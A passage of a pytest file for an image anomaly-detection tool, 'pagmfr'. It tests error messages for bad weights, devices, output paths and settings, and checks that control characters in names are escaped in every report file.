    ("metrics", "message"),
    [
        (
            "loss/feature,loss-feature",
            r"metric 'loss-feature' would be written to loss-feature.tex, as metric 'loss/feat",
        ),
        ("components", r"metric 'components' would be written to components.tex, as the comp"),
    ],
    ids=["two-metrics-one-file", "the-component-table"],
)
def test_a_metric_file_that_would_replace_another_is_refused(tmp_path, capsys, metrics, message):
    values = {"loss/feature": 0.9, "loss-feature": 0.8, "components": 0.7}
    folder = _metrics_folder(tmp_path / "run", values)
    out = tmp_path / "out"
    code, output = _run(["report", str(folder), "--metrics", metrics, "--out", str(out)], capsys)
    assert code == 2 and re.search(message, output), output
    assert not out.exists()


# ---- issue 25, second campaign: weights, outputs, transfers and the confusing class ----


@pytest.fixture(scope="module")
def checkpoint(tmp_path_factory, tiny_dataset) -> Path:
    """An untrained checkpoint of the tiny dataset's category (read-only)."""
    return _untrained_checkpoint(tmp_path_factory.mktemp("checkpoint") / "model.pt", tiny_dataset)


def _resnet_state(name: str) -> dict[str, torch.Tensor]:
    return getattr(torchvision.models, name)(weights=None).state_dict()


def _with_nan(state: dict[str, torch.Tensor]) -> dict[str, torch.Tensor]:
    return {k: v.fill_(float("nan")) if v.is_floating_point() else v for k, v in state.items()}


@pytest.mark.parametrize(
    ("saved", "backbone", "message"),
    [
        (
            "resnet34",
            "resnet18",
            r"do not fit resnet18 \(backbone.name\): 96 unexpected key\(s\) "
            r"\(layer1.2.conv1.weight, .*; they are resnet34 weights: set backbone.name to "
            r"resnet34",
        ),
        ("resnet18", "resnet34", r"do not fit resnet34 .*: 70 missing key\(s\) \(layer1.2.conv1"),
        ("nan", "resnet18", r"102 tensor\(s\) hold NaN or inf values \(e.g. conv1.weight, "),
    ],
    ids=["resnet34-as-resnet18", "resnet18-as-resnet34", "nan"],
)
def test_backbone_weights_that_do_not_fit_are_refused_naming_them(
    root, tmp_path, capsys, saved, backbone, message
):
    path = tmp_path / f"{saved}.pt"
    state = _with_nan(_resnet_state("resnet18")) if saved == "nan" else _resnet_state(saved)
    torch.save(state, path)
    argv = _train(root, tmp_path / "run", "--backbone", backbone)
    argv[argv.index("none")] = str(path)
    code, output = _run(argv, capsys)
    assert code == 2 and re.search(re.escape(str(path)) + ": .*" + message, output), output
    assert "train.lr" not in output and not (tmp_path / "run" / "checkpoints").exists()


@pytest.mark.parametrize(
    "wrap",
    [
        lambda state: state,
        lambda state: {"state_dict": state, "epoch": 3},  # a training script's checkpoint
        lambda state: {f"module.{k}": v for k, v in state.items()},  # saved from DataParallel
        lambda state: {k: v for k, v in state.items() if not k.startswith("fc.")},  # no head
        # saved from a backbone that stops at stage 3 (ResNetFeatures drops the deeper ones)
        lambda state: {k: v for k, v in state.items() if not k.startswith(("fc.", "layer4."))},
    ],
    ids=["bare", "state_dict-entry", "module-prefix", "without-fc", "stages-1-3"],
)
def test_backbone_weights_in_their_usual_wrappers_load(tmp_path, wrap):
    from pagmfr.models import ResNetFeatures, load_backbone_weights

    state = _resnet_state("resnet18")
    torch.save(wrap(state), tmp_path / "weights.pt")
    backbone = ResNetFeatures("resnet18", (1, 2, 3))
    load_backbone_weights(backbone, str(tmp_path / "weights.pt"))
    torch.testing.assert_close(backbone.net.layer3[1].conv2.weight, state["layer3.1.conv2.weight"])


def test_predict_gives_same_named_inputs_their_own_outputs(root, tmp_path, capsys, checkpoint):
    test = _category(root) / "test"
    good = cv2.imread(str(test / "good" / "000.png"))
    cv2.imwrite(str(test / "good" / "000.jpg"), good)  # one folder, one stem, two images
    inputs = sorted(p.relative_to(test) for p in test.rglob("*.*"))
    out = tmp_path / "pred"
    again = str(test / "good" / "000.png")  # given twice, through its folder too: once
    code, output = _run(
        ["predict", "--checkpoint", str(checkpoint), str(test), again, "--out", str(out)], capsys
    )
    assert code == 0, output
    written = sorted(p.relative_to(out) for p in out.rglob("*_heatmap.png"))
    assert len(written) == len(inputs) == 6
    assert Path("crack/000_heatmap.png") in written and Path("missing/000_heatmap.png") in written
    assert {Path("good/000.png_heatmap.png"), Path("good/000.jpg_heatmap.png")} < set(written)
    scores = json.loads((out / "scores.json").read_text())
    assert sorted(Path(s["heatmap"]) for s in scores) == written


def _evaluated(checkpoint: Path, root: Path, out: Path, capsys, *extra: str) -> dict:
    argv = ["evaluate", "--checkpoint", str(checkpoint), "--data", str(root), "--out", str(out)]
    code, output = _run([*argv, *extra], capsys)
    assert code == 0, output
    return json.loads((out / "metrics.json").read_text())


def test_evaluating_another_category_is_a_transfer_kept_out_of_reports(
    root, tmp_path, capsys, checkpoint
):
    shutil.copytree(_category(root), root / "brick")  # a coins checkpoint tested on "brick"
    own = _evaluated(checkpoint, root, tmp_path / "coins", capsys)
    transfer = _evaluated(checkpoint, root, tmp_path / "brick", capsys, "--category", "brick")
    assert own["transfer_from"] is None and own["config"]["data.category"] == CATEGORY
    assert transfer["transfer_from"] == CATEGORY and transfer["config"]["data.category"] == "brick"

    def report(*extra: str) -> tuple[int, str, pd.DataFrame | None]:
        out = tmp_path / f"report{len(extra)}"
        folders = [str(tmp_path / name) for name in ("coins", "brick")]
        argv = ["report", *folders, "--format", "csv", "--out", str(out), *extra]
        code, output = _run(argv, capsys)
        tables = pd.read_csv(out / "tables.csv") if code == 0 else None
        return code, output, tables

    code, output, tables = report()
    assert code == 0 and "1 transfer evaluation(s) left out" in output, output
    assert CATEGORY in set(tables["row"]) and "brick" not in set(tables["row"])
    code, output, tables = report("--include-transfers")
    assert code == 0 and "left out" not in output
    cell = tables[(tables["row"] == "brick") & (tables["variant"] == "pagmfr (trained on coins)")]
    assert cell["mean"].notna().all() and len(cell) == 3  # one per default metric
    code, output = _run(["report", str(tmp_path / "brick"), "--out", str(tmp_path / "r")], capsys)
    assert code == 2 and "only transfer evaluations" in output and "--include-transfers" in output


def test_a_validation_fraction_that_leaves_too_few_images_is_refused(root, tmp_path, capsys):
    out = tmp_path / "run"
    code, output = _run(_train(root, out, "--set", "data.val_fraction=0.99"), capsys)
    assert (
        code == 2
        and (
            "data.val_fraction 0.99 holds out 5 of the 5 training images, leaving 0 to train on; "
            "training needs at least 2: set data.val_fraction to 0.6 or less"
        )
        in output
    ), output
    assert "nan" not in output and not (out / "checkpoints").exists()


@pytest.mark.parametrize(
    ("extra", "message"),
    [
        (["--device", "foo"], "train.device 'foo' is not a device; use auto, cpu, cuda, cuda:N"),
        (["--set", "train.device=cuda:x"], "train.device 'cuda:x' is not a device; use auto"),
        (["--set", "train.device=meta"], "train.device 'meta' is not a device pagmfr runs on"),
    ],
    ids=["option", "set", "meta"],
)
def test_an_unknown_device_names_its_key_and_the_forms(root, tmp_path, capsys, extra, message):
    code, output = _run(_train(root, tmp_path / "run", *extra), capsys)
    assert code == 2 and message in output and "mps" in output, output


def test_an_unknown_device_of_evaluate_names_its_option(tmp_path, capsys, checkpoint):
    argv = ["evaluate", "--checkpoint", str(checkpoint), "--out", str(tmp_path / "e")]
    code, output = _run([*argv, "--device", "foo"], capsys)
    assert code == 2 and "--device 'foo' is not a device; use auto, cpu" in output, output


@pytest.mark.parametrize("command", ["train", "evaluate", "predict", "report", "inside-a-file"])
def test_an_output_path_that_is_a_file_is_named(root, tmp_path, capsys, checkpoint, command):
    file = tmp_path / "taken.txt"
    file.write_text("not a folder\n")
    out = file / "run" if command == "inside-a-file" else file
    image = str(_category(root) / "test" / "good" / "000.png")
    argv = {
        "train": _train(root, out),
        "inside-a-file": _train(root, out),
        "evaluate": ["evaluate", "--checkpoint", str(checkpoint), "--out", str(out)],
        "predict": ["predict", "--checkpoint", str(checkpoint), image, "--out", str(out)],
        "report": [
            "report",
            str(_metrics_folder(tmp_path / "r", {"au_pro": 0.9})),
            "--out",
            str(out),
        ],
    }[command]
    code, output = _run(argv, capsys)
    problem = "is a file" if out == file else f"cannot be made: {file} is a file"
    assert code == 2 and f"output folder {out} {problem}, not a folder" in output, output
    assert "Errno" not in output and file.read_text() == "not a folder\n"


def test_synth_into_an_existing_dataset_is_refused(root, capsys):
    stale = _category(root) / "train" / "good" / "999.png"
    shutil.copy(stale.with_name("000.png"), stale)
    before = sorted(root.rglob("*"))
    argv = ["data", "synth", str(root), "--categories", CATEGORY, "--image-size", SIZE]
    code, output = _run(argv, capsys)
    assert code == 2 and f"{_category(root)}: already exists" in output and "--overwrite" in output
    assert sorted(root.rglob("*")) == before
    code, output = _run([*argv, "--overwrite"], capsys)
    assert code == 0 and "no problems found" in output, output
    assert not stale.exists() and len(list((stale.parent).glob("*.png"))) == 48


def test_control_characters_in_names_are_written_out_in_every_sink(hostile_report):
    """ESC, BEL and NUL in a variant name once made every critical-difference SVG ill-formed
    XML: every file now holds none of them, each SVG parses, and the name reads with ``\\x..``
    in their place."""
    shown = "bell\\x07 esc\\x1b[31m nul\\x00"
    svgs = sorted(hostile_report.glob("*.svg"))
    assert svgs
    for path in sorted(hostile_report.iterdir()):
        if path.suffix in (".svg", ".md", ".html", ".tex", ".csv"):
            text = path.read_text()
            assert not re.search(r"[\x00-\x08\x0b\x0c\x0e-\x1f]", text), path.name
    for path in svgs:
        ElementTree.parse(path)  # well-formed XML
    assert shown in (hostile_report / "report.html").read_text()
    assert shown in "".join(path.read_text() for path in svgs)
    assert r"bell\\x07 esc\\x1b\[31m nul\\x00" in (hostile_report / "report.md").read_text()


def test_the_pixel_limit_is_a_setting_read_from_the_header(root, monkeypatch):
    """``PAGMFR_MAX_IMAGE_PIXELS`` sets the largest image read (refused before decoding,
    naming the file); a value that is not a positive number of pixels is named."""
    image = _category(root) / "train" / "good" / "000.png"
    assert read_rgb(image).shape == (32, 32, 3)
    monkeypatch.setenv("PAGMFR_MAX_IMAGE_PIXELS", "1000")
    with pytest.raises(ImageReadError, match=r"000.png: 32 x 32 pixels \(1,024\) is more than"):
        read_rgb(image)
    monkeypatch.setenv("PAGMFR_MAX_IMAGE_PIXELS", "lots")
    with pytest.raises(ValueError, match="PAGMFR_MAX_IMAGE_PIXELS='lots': expected a positive"):
        read_rgb(image)
